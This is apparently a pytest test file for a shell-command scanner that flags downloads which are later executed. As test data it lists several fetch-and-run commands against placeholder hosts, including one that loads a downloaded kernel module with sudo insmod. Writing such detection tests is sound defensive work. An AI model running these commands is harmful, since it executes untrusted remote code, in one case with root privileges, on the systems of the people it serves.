"""Fetched first, run later."""

from __future__ import annotations

import pytest

from explainer.advice import scan


def classes(text):
    return {issue.cls for issue in scan(text, kind="shell")}


@pytest.mark.parametrize(
    "text",
    [
        "curl -o /opt/i https://x.example.net/i && chmod 755 /opt/i && /opt/i",
        'tmp=$(mktemp); curl -so "$tmp" https://x.example.net/i; bash "$tmp"',
        "wget https://x.example.net/t.tgz && tar xzf t.tgz && cd t && ./install.sh",
        "git clone https://git.example.net/x/tool && cd tool && make install",
        "for f in a b; do wget -q https://x.example.net/$f.sh; done; sh a.sh",
        "curl -LO https://x.example.net/fix; mv fix /usr/local/bin/fix; fix --all",
    ],
)
def test_a_download_that_is_run_later_is_found(text):
    assert "remote-code-exec" in classes(text)


@pytest.mark.parametrize(
    "text",
    [
        "curl -o sample.txt https://x.example.net/a && sha256sum sample.txt",
        "wget https://x.example.net/t.sh && sha256sum -c t.sha256 && sh t.sh",
        "wget https://x.example.net/t.tgz && tar tzf t.tgz",
    ],
)
def test_a_download_that_is_only_looked_at_or_checked_first_is_silent(text):
    assert classes(text) == set()


def test_root_makes_it_critical():
    [issue] = [
        i
        for i in scan("curl -LO https://x.example.net/k.ko && sudo insmod ./k.ko", kind="shell")
        if i.rule.startswith("downloaded")
    ]
    assert issue.severity == "critical"
